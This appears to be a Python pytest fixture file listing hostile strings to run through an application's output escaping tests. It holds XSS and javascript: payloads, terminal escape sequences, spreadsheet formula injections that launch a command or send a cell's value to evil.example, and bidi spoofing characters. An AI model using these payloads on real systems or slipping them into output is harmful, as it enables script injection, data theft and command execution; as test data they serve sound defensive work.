import datetime as dt
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
FIXTURES = ROOT / "tests" / "fixtures"
AS_OF = "2026-11-23"


@pytest.fixture
def as_of() -> dt.date:
    return dt.date.fromisoformat(AS_OF)

# Valid but hostile text, put through every output channel (tests/test_escape.py): markup, Markdown, links to
# anything but a web page, terminal escape sequences, spreadsheet formulas, invisible and reordering characters.
HOSTILE = (
    "</textarea><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![track](https://tracker.example/p.png)",
    '<a href="javascript:alert(1)">x</a>',
    "<img src=x onerror=alert(1)>",
    "first line\n## injected heading\n| injected | row |",
    "`code` ``` fence",
    "\x1b]52;c;ZXZpbA==\x07 sets the clipboard",
    "\x1b[2J clears the screen",
    "\x1b[31mred\x1b[0m and a bell\x07",
    "carriage\rreturn",
    "NUL\x00byte",
    "\x9b C1 CSI",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "bidi \u202egnp.exe\u202c and isolate \u2066x\u2069",
    "zero\u200bwidth\ufeff and word\u2060joiner",
    "line\u2028separator",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt; entity & ampersand",
    "~~strike~~ *em* _em_ **bold** $x$",
    "x" * 5000,
)
# Those of them a valid ledger can hold: the loader refuses C0 and C1 controls but tab and newline.
HOSTILE_VALID = tuple(s for s in HOSTILE if not any(ord(c) < 32 and c not in "\t\n" or 0x7F <= ord(c) <= 0x9F for c in s))
